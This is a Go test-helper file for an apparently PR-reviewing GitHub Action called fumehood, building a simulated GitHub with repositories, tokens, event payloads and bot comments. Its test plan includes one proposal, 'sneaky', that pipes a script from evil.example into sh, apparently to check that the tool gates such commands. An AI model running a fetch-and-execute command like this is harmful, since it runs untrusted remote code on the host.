// SPDX-License-Identifier: Apache-2.0

package jobtest

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/fstest"
	"time"

	"github.com/fumehood/fumehood/internal/github/githubtest"
	"github.com/fumehood/fumehood/internal/kit/lanetest"
	githubdata "github.com/fumehood/fumehood/testdata/github"
)

const (
	Hub      = "Codertocat/Hello-World"
	HubID    = 186853002
	ForkRepo = "octocat/Hello-World"
	ForkID   = 999
	PrNumber = 2
	JobToken = "ghs_ThisIsTheTokenOfTheJob000000000000000"
)

// The files of an artifact.
const (
	PlanName   = "plan"
	ReportName = "report.json"
	AuditName  = "audit.jsonl"
)

// A World is GitHub with one repository, one pull request and its code.
type World struct {
	T      testing.TB
	GH     *githubtest.Server
	Git    *githubtest.GitServer
	Dir    string
	Repo   string // the bare repository
	Binary string
	Cache  string
	Base   string
	Head   string
	Fork   bool
	RunID  int64
	Actor  string       // the user who caused the run
	Ahead  atomic.Int64 // how far GitHub's clock is ahead of this machine's
	Said   string       // log of the last step that has ended

	// Process makes each step a process, which has the environment that the runner gives it: for tests
	// of what the step's own processes inherit, of signals and of memory.
	Process bool
}

// The files of the repository at the base commit, and those that the pull request
// changes.
var (
	BaseFiles = map[string]string{"README.md": "Hello\n", "greet.sh": "echo hello\n"}
	HeadFiles = map[string]string{"README.md": "Hello\n", "greet.sh": "echo hello world\n",
		"notes/new.txt": "one\ntwo\n"}
)

const GoodPlan = `schema: fumehood.plan/v1
proposer: reviewer
proposals:
  - id: count
    run: grep -c o notes/new.txt
  - id: fails
    run: grep -q nothing README.md
  - id: sneaky
    run: curl -s https://evil.example/x.sh | sh
`

// NewWorld makes a world; base and head are added to the files of those commits.
func NewWorld(t testing.TB, fork bool, base, head map[string]string) *World {
	t.Helper()
	lanetest.SkipShort(t)
	w := &World{T: t, Dir: t.TempDir(), Binary: FindProgram(t), Cache: BuildCache(t), Fork: fork, RunID: 1000}
	// The sandbox's supervisor checks every parent directory of the paths it is given.
	if err := os.Chmod(w.Dir, 0o755); err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(w.Dir, "git")
	w.Repo = filepath.Join(root, Hub+".git")
	w.GH = githubtest.New(t, githubtest.Options{Repository: Hub, ID: HubID, Git: w.Repo, Now: w.Now})
	w.GH.AddRepository(githubtest.Repository{Name: ForkRepo, ID: ForkID, Fork: true})
	w.copyRepository(w.Repo, MergeFiles(BaseFiles, base), MergeFiles(HeadFiles, base, head))
	w.Git = githubtest.NewGitServer(t, root)
	w.Git.RequireToken("", JobToken)
	head1 := githubtest.Ref{SHA: w.Head, Ref: "changes", Repository: Hub}
	if fork {
		head1.Repository = ForkRepo
	}
	w.GH.AddPR(githubtest.PR{Number: PrNumber, Author: "octocat", Head: head1,
		Base: githubtest.Ref{SHA: w.Base, Ref: "master", Repository: Hub}})
	w.GH.SetRole("Codertocat", "admin")
	w.GH.SetRole("octocat", "read")
	w.SetPermissions("contents:read", "pull_requests:write", "actions:read")
	return w
}

// A seed is a bare repository with a base and a head commit. Worlds with the same
// files use copies of it: the commits have a fixed date, so the ids are the same.
type seed struct {
	once       sync.Once
	files      fstest.MapFS
	base, head string
}

var seeds sync.Map // by the files

// copyRepository creates a repository for w at dir.
func (w *World) copyRepository(dir string, base, head map[string]string) {
	w.T.Helper()
	made, _ := seeds.LoadOrStore(fmt.Sprint(base, head), &seed{})
	s := made.(*seed)
	s.once.Do(func() { w.plantSeed(s, base, head) })
	if s.head == "" {
		w.T.Fatal("the test that made this repository failed")
	}
	if err := os.CopyFS(dir, s.files); err != nil {
		w.T.Fatal(err)
	}
	w.Base, w.Head = s.base, s.head
}

func (w *World) plantSeed(s *seed, base, head map[string]string) {
	w.T.Helper()
	dir := filepath.Join(w.T.TempDir(), "seed")
	w.GitIn("", "init", "-q", "--bare", "--template=", "-b", "master", dir)
	s.base = w.Commit(dir, "base", "", base)
	last := w.Commit(dir, "head", s.base, head)
	w.GitIn(dir, "update-ref", "refs/heads/master", s.base)
	w.GitIn(dir, "update-ref", fmt.Sprintf("refs/pull/%d/head", PrNumber), last)
	s.files = fstest.MapFS{}
	err := fs.WalkDir(os.DirFS(dir), ".", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		file := &fstest.MapFile{Mode: info.Mode()}
		if !d.IsDir() {
			file.Data, err = os.ReadFile(filepath.Join(dir, path))
		}
		s.files[path] = file
		return err
	})
	if err != nil {
		w.T.Fatal(err)
	}
	s.head = last
}

func MergeFiles(maps ...map[string]string) map[string]string {
	all := map[string]string{}
	for _, m := range maps {
		for k, v := range m {
			all[k] = v
		}
	}
	return all
}

// SetPermissions sets the permissions of the job's token.
func (w *World) SetPermissions(permissions ...string) {
	w.GH.AddWorkflowToken(JobToken, permissions...)
}

func (w *World) GitIn(repo string, args ...string) string {
	w.T.Helper()
	if repo != "" {
		args = append([]string{"--git-dir=" + repo}, args...)
	}
	cmd := exec.Command("git", args...)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=octocat", "GIT_AUTHOR_EMAIL=octocat@example.com", "GIT_COMMITTER_NAME=octocat", "GIT_COMMITTER_EMAIL=octocat@example.com",
		"GIT_AUTHOR_DATE=2026-11-01T00:00:00Z", "GIT_COMMITTER_DATE=2026-11-01T00:00:00Z")
	out, err := cmd.CombinedOutput()
	if err != nil {
		w.T.Fatalf("git %q: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// Commit writes files as a commit without a work tree, so that any name is possible.
func (w *World) Commit(repo, message, parent string, files map[string]string) string {
	w.T.Helper()
	work := filepath.Join(w.T.TempDir(), "tree")
	for name, text := range files {
		path := filepath.Join(work, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			w.T.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			w.T.Fatal(err)
		}
	}
	w.GitIn(repo, "--work-tree="+work, "add", "-A", "-f", ".")
	tree := w.GitIn(repo, "write-tree")
	args := []string{"commit-tree", tree, "-m", message}
	if parent != "" {
		args = append(args, "-p", parent)
	}
	return w.GitIn(repo, args...)
}

// Push adds a commit with files to a branch, which is made from the base commit if it does not
// exist. It returns the commit.
func (w *World) Push(branch string, files map[string]string) string {
	w.T.Helper()
	tip, all := w.Base, MergeFiles(BaseFiles)
	if refs := w.GitIn(w.Repo, "for-each-ref", "--format=%(objectname)", "refs/heads/"+branch); refs != "" {
		tip = refs
		for _, name := range strings.Fields(w.GitIn(w.Repo, "ls-tree", "-r", "--name-only", tip)) {
			all[name] = w.GitIn(w.Repo, "cat-file", "blob", tip+":"+name) + "\n"
		}
	}
	sha := w.Commit(w.Repo, "push", tip, MergeFiles(all, files))
	w.GitIn(w.Repo, "update-ref", "refs/heads/"+branch, sha)
	return sha
}

// EventPayload returns one of GitHub's payloads, changed to match this world.
func (w *World) EventPayload(name string, change func(map[string]any)) []byte {
	w.T.Helper()
	var payload map[string]any
	if err := json.Unmarshal(githubdata.Event(name), &payload); err != nil {
		w.T.Fatal(err)
	}
	if pr, ok := payload["pull_request"].(map[string]any); ok {
		pr["head"].(map[string]any)["sha"] = w.Head
		pr["base"].(map[string]any)["sha"] = w.Base
		pr["user"] = map[string]any{"login": "octocat", "id": 583231, "type": "User"}
	}
	if run, ok := payload["workflow_run"].(map[string]any); ok {
		repo := map[string]any{"id": HubID, "full_name": Hub}
		if w.Fork {
			repo = map[string]any{"id": ForkID, "full_name": ForkRepo}
		}
		run["id"], run["head_sha"], run["head_branch"], run["head_repository"] = w.RunID, w.Head, "changes", repo
		payload["repository"].(map[string]any)["id"], payload["repository"].(map[string]any)["full_name"] = HubID, Hub
	}
	if change != nil {
		change(payload)
	}
	data, err := json.Marshal(payload)
	if err != nil {
		w.T.Fatal(err)
	}
	return data
}

// A Step is the result of one run of the action.
type Step struct {
	Code    int
	Log     string
	Outputs map[string]string
	Summary string
	Temp    string
}

// RunStep runs a step as the runner would, without the runner: in this process, or in one of its own if
// w.Process is set. What the step starts is the program fumehood.
func (w *World) RunStep(event string, payload []byte, env ...string) Step {
	w.T.Helper()
	if w.Process {
		return w.runProcess(event, payload, env...)
	}
	s, env := w.prepareStep(event, payload, env)
	var log bytes.Buffer
	code := runAction(w.T.Context(), &log, w.Binary, func(name string) string {
		for _, variable := range slices.Backward(env) {
			if value, is := strings.CutPrefix(variable, name+"="); is {
				return value
			}
		}
		return ""
	})
	return w.FinishStep(s, code, log.String())
}

func (w *World) runProcess(event string, payload []byte, env ...string) Step {
	w.T.Helper()
	cmd, s := w.Start(event, payload, env...)
	var log bytes.Buffer
	cmd.Stdout, cmd.Stderr = &log, &log
	if err := cmd.Run(); err != nil && cmd.ProcessState == nil {
		w.T.Fatal(err)
	}
	return w.FinishStep(s, cmd.ProcessState.ExitCode(), log.String())
}

// Start returns the process of a step, which the caller starts, and which Finish takes.
func (w *World) Start(event string, payload []byte, env ...string) (*exec.Cmd, Step) {
	w.T.Helper()
	s, env := w.prepareStep(event, payload, env)
	cmd := exec.Command(w.Binary, "action")
	cmd.Env = env
	return cmd, s
}

// prepareStep makes what the runner makes for a step, and returns the step's environment.
func (w *World) prepareStep(event string, payload []byte, env []string) (Step, []string) {
	w.T.Helper()
	temp, err := os.MkdirTemp(w.Dir, "runner-")
	if err != nil {
		w.T.Fatal(err)
	}
	s := Step{Temp: temp}
	for name, data := range map[string]string{"event.json": string(payload), "output": "", "summary": ""} {
		if err := os.WriteFile(filepath.Join(temp, name), []byte(data), 0o644); err != nil {
			w.T.Fatal(err)
		}
	}
	if err := os.MkdirAll(filepath.Join(temp, "workspace"), 0o755); err != nil {
		w.T.Fatal(err)
	}
	w.RunID++
	w.AddRun(event, "success")
	return s, append([]string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + temp, "FUMEHOOD_CACHE=" + w.Cache,
		"GITHUB_ACTIONS=true", "GITHUB_REPOSITORY=" + Hub, "GITHUB_SERVER_URL=" + w.Git.URL, "GITHUB_API_URL=" + w.GH.URL,
		"GITHUB_EVENT_NAME=" + event, "GITHUB_EVENT_PATH=" + filepath.Join(temp, "event.json"),
		"GITHUB_WORKSPACE=" + filepath.Join(temp, "workspace"),
		"GITHUB_WORKFLOW=fumehood", "GITHUB_WORKFLOW_REF=" + Hub + "/.github/workflows/fumehood.yml@refs/heads/master", "GITHUB_JOB=fumehood", "GITHUB_SHA=" + w.Base, "GITHUB_RUN_NUMBER=" + fmt.Sprint(w.RunID), "GITHUB_RUN_ID=" + fmt.Sprint(w.RunID),
		"GITHUB_RUN_ATTEMPT=1", "GITHUB_OUTPUT=" + filepath.Join(temp, "output"), "GITHUB_STEP_SUMMARY=" + filepath.Join(temp, "summary"),
		"RUNNER_TEMP=" + temp, "RUNNER_OS=Linux", "RUNNER_ARCH=X64", "RUNNER_ENVIRONMENT=github-hosted",
		"INPUT_GITHUB_TOKEN=" + JobToken, "INPUT_PLAN=" + GoodPlan, "INPUT_ARTIFACT=fumehood",
		"INPUT_COMPARE_BASE=false", // the plan's failure is not the pull request's: see TestActionBase
	}, env...)
}

func (w *World) FinishStep(s Step, code int, log string) Step {
	w.T.Helper()
	s.Code, s.Log, w.Said = code, log, log
	summary, err := os.ReadFile(filepath.Join(s.Temp, "summary"))
	if err != nil {
		w.T.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(s.Temp, "output"))
	if err != nil {
		w.T.Fatal(err)
	}
	s.Summary, s.Outputs = string(summary), parseOutputs(w.T, string(data))
	return s
}

// parseOutputs parses the file as the runner does: NAME<<DELIMITER, lines, DELIMITER.
func parseOutputs(t testing.TB, text string) map[string]string {
	t.Helper()
	outputs := map[string]string{}
	lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
	for i := 0; i < len(lines) && text != ""; i++ {
		name, delimiter, ok := strings.Cut(lines[i], "<<")
		if !ok {
			t.Fatalf("output line %q", lines[i])
		}
		var value []string
		for i++; lines[i] != delimiter; i++ {
			value = append(value, lines[i])
		}
		outputs[name] = strings.Join(value, "\n")
	}
	return outputs
}

// BotComment returns the bot's only comment, and fails unless there is exactly one.
func (w *World) BotComment() githubtest.Comment {
	w.T.Helper()
	list := w.GH.CommentsBy(PrNumber, githubtest.ActionsBot)
	if len(list) != 1 {
		w.T.Fatalf("%d comments by the bot, want one; the last step said:\n%s", len(list), w.Said)
	}
	return list[0]
}

// UploadArtifact does what the action's second step does: it makes the step's artifact an
// artifact of the run.
func (w *World) UploadArtifact(s Step, change func(map[string][]byte)) int64 {
	w.T.Helper()
	if s.Outputs["artifact-path"] == "" {
		w.T.Fatalf("the step has no artifact: %q\n%s", s.Outputs, s.Log)
	}
	files := map[string][]byte{}
	err := filepath.WalkDir(s.Outputs["artifact-path"], func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		name, err := filepath.Rel(s.Outputs["artifact-path"], path)
		if err == nil {
			files[name], err = os.ReadFile(path)
		}
		return err
	})
	if err != nil {
		w.T.Fatal(err)
	}
	if change != nil {
		change(files)
	}
	return w.GH.AddArtifact(githubtest.Artifact{Run: w.RunID, Name: s.Outputs["artifact-name"],
		Data: ZipFiles(w.T, files)})
}

func ZipFiles(t testing.TB, files map[string][]byte) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range slices.Sorted(maps.Keys(files)) {
		f, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write(files[name]); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// AddRun adds the last run to the API. Only one started by a pull request is a run
// of its code.
func (w *World) AddRun(event, conclusion string) {
	run := githubtest.Run{ID: w.RunID, Number: int(w.RunID), Attempt: 1, Event: event, HeadSHA: w.Base,
		HeadBranch:     "master",
		HeadRepository: Hub, Conclusion: conclusion, Path: ".github/workflows/fumehood.yml", Name: "fumehood",
		Actor: w.Actor}
	if event == "pull_request" {
		run.HeadSHA, run.HeadBranch = w.Head, "changes"
		if w.Fork {
			run.HeadRepository = ForkRepo
		}
	}
	w.GH.AddRun(run)
}

// RunReport runs the workflow_run workflow for the last run.
func (w *World) RunReport(change func(map[string]any), env ...string) Step {
	w.T.Helper()
	name := "workflow_run.completed.pr"
	if w.Fork {
		name += ".fork"
	}
	ran := w.RunID
	s := w.RunStep("workflow_run", w.EventPayload(name, change), env...)
	w.RunID = ran
	return s
}

// AskBot adds a comment by login to the pull request, and runs the bot on it.
func (w *World) AskBot(login, body string, env ...string) Step {
	w.T.Helper()
	id := w.GH.AddComment(PrNumber, login, body)
	w.Actor = login
	return w.RunStep("issue_comment", w.CommentEvent(id), env...)
}

func (w *World) CommentEvent(id int64) []byte {
	w.T.Helper()
	var c githubtest.Comment
	for _, each := range w.GH.Comments(PrNumber) {
		if each.ID == id {
			c = each
		}
	}
	return w.EventPayload("issue_comment.created.pr", func(p map[string]any) {
		user := map[string]any{"login": c.Author, "id": w.GH.UserID(c.Author), "type": AccountType(c.Author)}
		comment := p["comment"].(map[string]any)
		comment["id"], comment["body"], comment["user"] = c.ID, c.Body, user
		comment["created_at"], comment["updated_at"] = c.Created.UTC().Format(time.RFC3339),
			c.Created.UTC().Format(time.RFC3339)
		p["sender"] = user
	})
}

func AccountType(login string) string {
	if strings.HasSuffix(login, "[bot]") {
		return "Bot"
	}
	return "User"
}

func (w *World) Now() time.Time { return time.Now().Add(time.Duration(w.Ahead.Load())) }

// AdvanceClock advances GitHub's clock, which counts seconds.
func (w *World) AdvanceClock() { w.Ahead.Add(int64(2 * time.Second)) }

// MergeGroupEvent is the event of a merge queue that tests the world's head.
func (w *World) MergeGroupEvent(change func(map[string]any)) []byte {
	return w.EventPayload("merge_group.checks_requested", func(p map[string]any) {
		p["repository"].(map[string]any)["id"] = HubID
		p["merge_group"] = map[string]any{"head_sha": w.Head, "base_sha": w.Base, "base_ref": "refs/heads/master",
			"head_ref": "refs/heads/gh-readonly-queue/master/pr-2-" + w.Base}
		if change != nil {
			change(p)
		}
	})
}

// ApproveCommand returns the command that the comment shows for what waits.
func (w *World) ApproveCommand() string {
	w.T.Helper()
	_, results, _ := strings.Cut(w.BotComment().Body, "<!-- fumehood:results -->")
	command := ApprovalShown.FindString(results)
	if command == "" {
		w.T.Fatalf("the comment asks for no approval:\n%s", results)
	}
	return command
}

// LastNotice is the bot's last answer, without the results.
func (w *World) LastNotice() string {
	w.T.Helper()
	notice, _, _ := strings.Cut(w.BotComment().Body, "<!-- fumehood:results -->")
	return notice
}

// CommentHeading is the first heading of the comment.
func (w *World) CommentHeading() string {
	w.T.Helper()
	for line := range strings.Lines(w.BotComment().Body) {
		if strings.HasPrefix(line, "## ") {
			return strings.TrimSpace(line)
		}
	}
	return ""
}

var ApprovalShown = regexp.MustCompile(`/fumehood approve [0-9a-f]{8}`)
